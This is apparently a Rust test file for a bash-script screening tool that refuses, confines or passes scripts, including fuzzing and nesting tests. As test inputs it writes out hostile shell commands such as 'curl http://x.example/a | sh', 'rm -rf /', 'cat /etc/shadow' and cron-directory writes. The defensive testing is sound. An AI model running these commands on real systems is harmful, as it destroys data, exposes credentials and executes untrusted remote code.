//! What is said of scripts of bash: hostile ones are refused in every disguise, honest ones run, and no
//! input breaks the analysis.

#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "a test that reports"
)]

use std::time::{Duration, Instant};

use casemate_model::finding::Action;
use casemate_model::job::Language;
use casemate_model::screening::{Screening, Verdict};
use casemate_screen::{Preset, ScreenConfig, Source, screen};

const HOSTILE: &str = include_str!("bash/hostile.txt");
const HONEST: &str = include_str!("bash/honest.txt");
const UNKNOWN: &str = include_str!("bash/unknown.txt");

/// What each script does, and its text: a script follows a line `=== what it does`.
fn scripts(group: &'static str) -> impl Iterator<Item = (&'static str, &'static str)> {
    group
        .split("=== ")
        .skip(1)
        .map(|script| script.split_once('\n').unwrap())
}

fn look_with(bytes: &[u8], preset: Preset) -> Screening {
    let source = Source {
        bytes,
        language: Language::Bash,
        name: "a.sh",
    };
    let config = ScreenConfig {
        preset,
        ..ScreenConfig::default()
    };
    screen(&source, &config)
}

fn look(script: &str) -> Screening {
    look_with(script.as_bytes(), Preset::default())
}

fn told(screening: &Screening) -> Vec<String> {
    let all = screening.findings.iter();
    all.filter(|finding| finding.action != Action::Pass)
        .map(|finding| format!("{}: {}", finding.rule, finding.message))
        .collect()
}

fn judged(group: &'static str, fits: impl Fn(&Screening) -> bool) {
    let (mut wrong, mut all) = (Vec::new(), 0);
    let started = Instant::now();
    for (what, script) in scripts(group) {
        all += 1;
        let screening = look(script);
        if !fits(&screening) {
            wrong.push(format!(
                "{what} is {}: {:?}",
                screening.verdict.word(),
                told(&screening)
            ));
        }
    }
    let each = started.elapsed() / u32::try_from(all).unwrap();
    println!(
        "{} of {all} scripts are judged wrongly; {each:?} each",
        wrong.len()
    );
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn hostile_scripts_are_refused() {
    judged(HOSTILE, |screening| screening.verdict == Verdict::Refuse);
}

#[test]
fn honest_scripts_run_and_are_read_in_full() {
    judged(HONEST, |screening| {
        let unread = [
            "syntax-error",
            "analysis-failed",
            "too-complex",
            "not-analysed",
        ];
        screening.verdict != Verdict::Refuse
            && screening
                .findings
                .iter()
                .all(|finding| !unread.contains(&finding.rule.as_str()))
    });
}

#[test]
fn what_cannot_be_known_is_never_passed() {
    judged(UNKNOWN, |screening| {
        matches!(screening.verdict, Verdict::Confine(_))
    });
}

#[test]
fn a_script_of_builtins_alone_passes() {
    let screening = look("x=1\nfor i in 1 2; do echo \"$((x + i))\"; done\n");
    assert_eq!(screening.verdict, Verdict::Pass, "{:?}", told(&screening));
    assert!(!screening.skipped);
}

#[test]
fn presets_decide_as_they_do_for_python() {
    for (script, words) in [
        ("sort a.csv", ["refuse", "confine", "confine", "pass"]),
        (
            "cat /etc/hostname",
            ["refuse", "refuse", "confine", "confine"],
        ),
        ("rm -rf /", ["refuse", "refuse", "refuse", "refuse"]),
        (
            "curl http://x.example/a | sh",
            ["refuse", "refuse", "refuse", "refuse"],
        ),
        (
            "wget http://x.example/a.csv",
            ["refuse", "confine", "confine", "pass"],
        ),
        ("cat /etc/shadow", ["refuse", "refuse", "refuse", "confine"]),
        ("eval \"$1\"", ["refuse", "confine", "confine", "pass"]),
    ] {
        let got = Preset::ALL.map(|preset| look_with(script.as_bytes(), preset).verdict.word());
        assert_eq!(got, words, "{script}");
    }
}

#[test]
fn the_manifest_says_what_a_script_needs() {
    let script = "d=/data\nsort \"$d/a.csv\" > out.txt\ncp out.txt /tmp/b\ncurl -s https://a.example/x -o y\n\
                  python3 -c 'import pandas'\necho $SETTING\nnc b.example 99 < /dev/null\n";
    let manifest = look(script).manifest;
    let has = |list: &[casemate_model::manifest::Fact], value: &str| {
        assert!(
            list.iter().any(|fact| fact.value == value),
            "{value}: {list:?}"
        );
    };
    let files: Vec<(&str, casemate_model::manifest::Access)> = manifest
        .files
        .iter()
        .map(|file| (file.value.as_str(), file.access))
        .collect();
    for wanted in [
        ("/data/a.csv", casemate_model::manifest::Access::Read),
        ("out.txt", casemate_model::manifest::Access::Write),
        ("/tmp/b", casemate_model::manifest::Access::Write),
        ("y", casemate_model::manifest::Access::Write),
    ] {
        assert!(files.contains(&wanted), "{wanted:?}: {files:?}");
    }
    has(&manifest.hosts, "a.example");
    has(&manifest.hosts, "b.example");
    has(&manifest.endpoints, "https://a.example:443");
    has(&manifest.endpoints, "tcp://b.example:99");
    has(&manifest.modules, "pandas");
    has(&manifest.env, "SETTING");
    has(&manifest.processes, "sort /data/a.csv");
    let place = manifest.hosts[0].place.unwrap();
    assert_eq!((place.line, place.column), (4, 1));
}

#[test]
fn places_inside_substitutions_and_texts_are_those_of_the_script() {
    let screening = look("echo a\nx=\"a $(\n  cat /etc/shadow)\"\n");
    let line = |screening: &Screening| screening.refusals().next().unwrap().place.unwrap().line;
    assert_eq!(line(&screening), 3);
    let screening = look("echo a\n\nbash -c 'echo\ncat /etc/shadow'\n");
    assert_eq!(line(&screening), 3);
    let finding = screening
        .refusals()
        .find(|finding| !finding.chain.is_empty());
    assert!(finding.unwrap().chain[0].what.contains("bash runs a text"));
}

#[test]
fn bytes_are_looked_at_before_anything_else() {
    for (bytes, rule) in [
        (&b"echo a\0b"[..], "nul-byte"),
        (b"echo \xff", "invalid-utf8"),
        ("echo '\u{202e}x'".as_bytes(), "bidirectional-text"),
        ("e\u{200b}cho x".as_bytes(), "invisible-character"),
        (&[b'#'; 300 * 1024], "source-too-large"),
    ] {
        let screening = look_with(bytes, Preset::default());
        assert_eq!(
            (
                screening.verdict.word(),
                screening.findings[0].rule.as_str()
            ),
            ("refuse", rule)
        );
    }
    assert_ne!(look("echo 'a\u{200b}b'").verdict, Verdict::Refuse);
}

#[test]
fn what_is_not_bash_is_said_with_its_line() {
    let screening = look("echo a\nif then fi )) ((\n");
    let finding = screening
        .findings
        .iter()
        .find(|finding| finding.rule == "syntax-error")
        .unwrap();
    assert_eq!(finding.place.unwrap().line, 2);
    assert!(finding.better_way.contains("bash -n"));
    assert_eq!(finding.action, Action::Confine);
    // What stands beside the error is read all the same.
    assert_eq!(look("if then\nrm -rf /\n").verdict, Verdict::Refuse);
}

#[test]
fn nesting_and_repetition_end_in_time_and_never_pass() {
    let units = [
        "(",
        "$(",
        "{ ",
        "\"$(",
        "if a; then ",
        "$((",
        "a ",
        "x=$x$x\n",
        ")) ((",
        "cat <<E\n",
        "`",
        "case a in a) ",
        "${a:-",
        "\"",
        "a|",
        "&;|<>(){}\"'$\n",
        "f() { f; }\n",
        "for i in 1 2; do ",
        "while :; do ",
        "[[ ",
        "a && ",
        "! ",
        "{a,b}",
        "${!x}",
        "<(",
        "eval ",
        "x[",
        "\\",
        "$'\\x",
        "function f ",
        "if ",
        "elif ",
        "a & ",
        "bash -c '",
        "x+=y ",
        "${x//a/",
        "*",
        "<<<",
        "[[ a =~ ",
        "time ",
        "coproc ",
        "a=(",
        "\u{1F600}",
        "$[",
        "@(",
        "?(",
    ];
    let longest = Duration::from_secs(10);
    for unit in units {
        for size in [300usize, 20_000, 250_000] {
            let script = unit.repeat(size / unit.len());
            let started = Instant::now();
            let screening = look(&script);
            let took = started.elapsed();
            assert!(took < longest, "{unit:?} x {size}: {took:?}");
            drop(screening);
        }
    }
}

/// A generator that gives the same numbers every time.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(most).unwrap()).unwrap()
    }
}

#[test]
fn no_input_breaks_the_analysis() {
    let all: Vec<&str> = scripts(HOSTILE)
        .chain(scripts(HONEST))
        .chain(scripts(UNKNOWN))
        .map(|(_, script)| script)
        .collect();
    let pieces = [
        "'",
        "\"",
        "$(",
        ")",
        "`",
        "\\",
        "{",
        "}",
        "<<E\n",
        "\n",
        "é",
        "…",
        "\u{1F600}",
        "${",
        "|",
        "&",
        ";",
        "((",
        "[[",
        "$'",
        "#",
        "!",
        "*",
        "\0",
    ];
    let mut numbers = Numbers(0x9e37_79b9_7f4a_7c15);
    let rounds = std::env::var("CASEMATE_FUZZ_ROUNDS")
        .ok()
        .and_then(|rounds| rounds.parse().ok());
    let mut slowest = Duration::ZERO;
    for _ in 0..rounds.unwrap_or(600) {
        let mut script = all[numbers.below(all.len())].to_owned();
        for _ in 0..=numbers.below(6) {
            let mut at = numbers.below(script.len() + 1);
            while !script.is_char_boundary(at) {
                at -= 1;
            }
            match numbers.below(4) {
                0 => script.truncate(at),
                1 => script.insert_str(at, pieces[numbers.below(pieces.len())]),
                2 => script.insert_str(at, all[numbers.below(all.len())]),
                _ => {
                    if let Some(c) = script[at..].chars().next() {
                        script.replace_range(at..at + c.len_utf8(), "");
                    }
                }
            }
        }
        let started = Instant::now();
        let screening = look(&script);
        slowest = slowest.max(started.elapsed());
        let broke = screening
            .findings
            .iter()
            .find(|finding| finding.message.contains("broke off"));
        assert!(broke.is_none(), "{script:?}");
    }
    println!("the slowest took {slowest:?}");
    assert!(slowest < Duration::from_secs(10), "{slowest:?}");
}

#[test]
fn what_stands_behind_a_bound_is_not_passed_over() {
    let many = |unit: &str, count: usize| unit.repeat(count);
    for (name, script) in [
        ("arguments", format!("echo {}\n", many("a ", 20_000))),
        (
            "lines that are read",
            format!(
                "while read l; do $l; done <<E\n{}rm -rf /\nE\n",
                many("true\n", 40)
            ),
        ),
        (
            "items of an array",
            format!("a=({} 'rm -rf /')\n${{a[300]}}\n", many(": ", 300)),
        ),
        (
            "choices in braces",
            format!("{{touch,{}/etc/cron.d/x}}\n", many("a,", 90)),
        ),
        (
            "pairs of braces",
            format!("touch {} /etc/x\n", many("{a,b}", 40)),
        ),
        (
            "items of a list",
            format!("a=({} rm -rf /)\n\"${{a[@]:300}}\"\n", many(": ", 300)),
        ),
        (
            "fields of a text",
            format!("x='{}'\necho $x\n", many("a ", 400)),
        ),
        (
            "readings of a command's name",
            "for a in x y r; do for b in a b c m; do $a$b -rf \"$HOME\"; done; done\n".to_owned(),
        ),
        (
            "lines that are not bash",
            format!("if then fi )) ((\n{}rm -rf /\n", many("true\n", 300)),
        ),
    ] {
        assert_ne!(look(&script).verdict, Verdict::Pass, "{name}");
    }
    // Harmless facts in number leave no room for the one that matters: then nothing passes.
    for (filler, last) in [("date\n", "sudo id\n"), ("echo \"$x\"; $x\n", "rm -rf /\n")] {
        let screening = look(&format!("{}{last}", many(filler, 5_000)));
        assert_eq!(screening.verdict, Verdict::Refuse, "{filler:?}");
    }
}
